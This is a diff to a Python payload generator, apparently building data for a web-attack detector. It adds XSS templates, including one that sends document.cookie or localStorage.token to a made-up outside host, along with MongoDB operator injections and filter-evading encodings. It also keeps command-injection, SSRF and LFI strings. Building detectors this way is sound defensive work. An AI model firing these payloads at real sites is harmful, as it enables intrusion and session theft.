@@ -1,12 +1,11 @@
 """Payloads of attacks: those of requests.grammar, and templates of the kinds that it lacks."""
 
-import os
 import random
-from functools import cache
-from pathlib import Path
 
 import interpreters
+import rules
 from normal import token, word
+from rules import listed
 
 from webtorch.detect import corpus
 
@@ -63,6 +62,11 @@ COMMANDS = (
     "perl -e 'system(\"id\")'",
     "systeminfo",
     "net user",
+)
+OPERATORS = (  # of MongoDB, as names of fields
+    *("$where", "$ne", "$gt", "$gte", "$lt", "$regex", "$nin", "$nor", "$not", "$or", "$and"),
+    *("$exists", "$expr", "$function", "$accumulator", "$elemMatch", "$text", "$jsonSchema"),
+    *("user[$ne]", "password[$gt]", "login[$regex]", "q[$nin][]", "id[$exists]"),
 )
 HOSTS = (
     *("127.0.0.1", "localhost", "169.254.169.254", "[::1]", "0x7f000001", "2130706433"),
@@ -367,6 +371,41 @@ def php(rng: random.Random) -> str:
     )
 
 
+def script(rng: random.Random) -> str:
+    """Return JavaScript for a place in which it runs by itself."""
+    call = rng.choice(["alert", "prompt", "confirm", "eval", "print", "setTimeout", "fetch"])
+    what = rng.choice(
+        [
+            *("1", "document.domain", "document.cookie", "origin", "location.hash.slice(1)", "/x/"),
+            *("URL.slice(-8)", "name", "atob('YWxlcnQoMSk=')", f"'{word(rng)}'", f"`{word(rng)}`"),
+            *(f"//{word(rng)}.com", "String.fromCharCode(88,83,83)", "localStorage.token", "XSS"),
+        ]
+    )
+    half = call[:2]
+    made = rng.choice(
+        [
+            *(f"{call}({what})", f"{call}({what})", f"{call}`{what}`", f"({call})({what})"),
+            *(
+                f"window['{call}']({what})",
+                f"top['{half}'+'{call[2:]}']({what})",
+                f"self.{call}({what})",
+            ),
+            *(f"[{what}].map({call})", f"{call}.call(null,{what})", f"{call}.apply(null,[{what}])"),
+            *(f"Function('{call}({what})')()", f"[]['filter']['constructor']('{call}({what})')()"),
+            *(
+                f"location='javascript:{call}({what})'",
+                f"new Image().src='//{word(rng)}.com?'+{what}",
+            ),
+            *(f"document.write({what})", f"onerror={call};throw {what}", f"a={call},a({what})"),
+        ]
+    )
+    return (
+        rng.choice(["", "", "", "javascript:", "';", '"-', "'-", "`;", "}", "//"])
+        + made
+        + rng.choice(["", "", "", ";//", "-'", '-"', "<!--", ">", ";"])
+    )
+
+
 def crlf(rng: random.Random) -> str:
     return rng.choice(
         [
@@ -403,7 +442,7 @@ def scanner(rng: random.Random) -> str:
             "OpenVAS",
             "Havij",
             "commix/v3.5",
-            *listed("scanners-user-agents"),
+            *listed("scanners-user-agents.data"),
         ]
     )
 
@@ -458,7 +497,6 @@ PATHS = [
     "/terraform.tfstate",
     "/etc/passwd",
     "/wp-json/wp/v2/users",
-    "/xmlrpc.php",
     "/old/backup.zip",
     "/.env.production",
     "/api/.env",
@@ -467,34 +505,27 @@ PATHS = [
 
 GRAMMAR = corpus.Grammar()
 
-# lists of the OWASP Core Rule Set (Apache-2.0), as Debian's modsecurity-crs has them
-LISTS = Path(os.environ.get("CRS_RULES", "/usr/share/modsecurity-crs/rules"))
-
-
-@cache
-def listed(name: str) -> tuple[str, ...]:
-    lines = (LISTS / f"{name}.data").read_text(errors="replace").splitlines()
-    return tuple(line for line in lines if line and not line.startswith("#"))
-
 
 def of_lists(rng: random.Random) -> tuple[str, str]:
     """Return a payload about a file, a command, a function or a class, and its kind."""
     what = rng.randrange(8)
     a = word(rng, 1, 6)
     if what < 2:
-        file = rng.choice(listed("lfi-os-files" if what else "restricted-files")).lstrip("/")
+        file = rng.choice(listed("lfi-os-files.data" if what else "restricted-files.data")).lstrip(
+            "/"
+        )
         up = rng.choice(["/", "/", "../", "../../../", "..\\..\\", "file:///", "/var/www/", "%00/"])
         return up + file, "lfi"
     if what == 2:
-        name = rng.choice(listed("php-function-names-933150"))
+        name = rng.choice(listed("php-function-names-933150.data"))
         return rng.choice(
             [f"{name}({a})", f"{name}('{a}');", f"@{name} ($_GET[{a}])", f'${a}={name}("{a}")']
         ), "php"
     if what == 3:
-        name = rng.choice(listed("php-config-directives"))
+        name = rng.choice(listed("php-config-directives.data"))
         return rng.choice([f"{name}=1", f"-d {name}=on", f"ini_set('{name}', 1)"]), "php"
     if what == 4:
-        name = rng.choice(listed("java-classes"))
+        name = rng.choice(listed("java-classes.data"))
         return rng.choice(
             [
                 f"{name}",
@@ -505,11 +536,11 @@ def of_lists(rng: random.Random) -> tuple[str, str]:
             ]
         ), "jndi"
     if what == 5:
-        name = rng.choice(listed("windows-powershell-commands"))
+        name = rng.choice(listed("windows-powershell-commands.data"))
         return rng.choice(
             [f"{name} -x {a}", f"powershell -c {name}", f"&{name}", f"; {name} | out-null"]
         ), "cmdi"
-    name = rng.choice([each for each in listed("unix-shell") if "/" in each])
+    name = rng.choice([each for each in listed("unix-shell.data") if "/" in each])
     return rng.choice(
         [
             f";{name} {a}",
@@ -538,13 +569,39 @@ KINDS = (
     ("xxe", xxe, 3),
     ("ssrf", ssrf, 2),
     ("php", php, 6),
+    ("xss", script, 8),
     ("crlf", crlf, 2),
     ("list", command, 14),
 )
 
 
+def encoded(payload: str, rng: random.Random) -> str:
+    """Return a payload with characters as HTML, JSON, JavaScript or URLs write them."""
+    signs = {each for each in payload if not each.isalnum()}
+    chosen = signs if rng.random() < 0.6 else {rng.choice(payload), *rng.sample(sorted(signs), 1)}
+    if rng.random() < 0.2:
+        chosen = set(payload)
+    write = rng.choice(
+        [
+            *("&#{0};", "&#{0}", "&#x{0:x};", "&#x{0:X}", "&#{0:07};", "\\u{0:04x}", "\\x{0:02x}"),
+            *("%{0:02x}", "%25{0:02X}", "%u{0:04x}", "\\{0:o}", "\\u{{{0:x}}}"),
+        ]
+    )
+    return "".join(write.format(ord(each)) if each in chosen else each for each in payload)
+
+
 def payload(rng: random.Random) -> tuple[str, str]:
-    """Return a payload and its kind, "" if it is not known."""
+    """Return a payload and its kind, "" if it is not known; some are encoded once more."""
+    made, kind = plain(rng)
+    if len(made) < 200 and rng.random() < 0.06 and not made.isalnum():
+        made = encoded(made, rng)
+    return made, kind
+
+
+def plain(rng: random.Random) -> tuple[str, str]:
+    """Return a payload and its kind, as it is."""
+    if rng.random() < 0.3:
+        return rules.payload(rng)
     if rng.random() < 0.5:
         return interpreters.payload(rng)
     kind, make, _ = rng.choices(KINDS, [weight for _, _, weight in KINDS])[0]
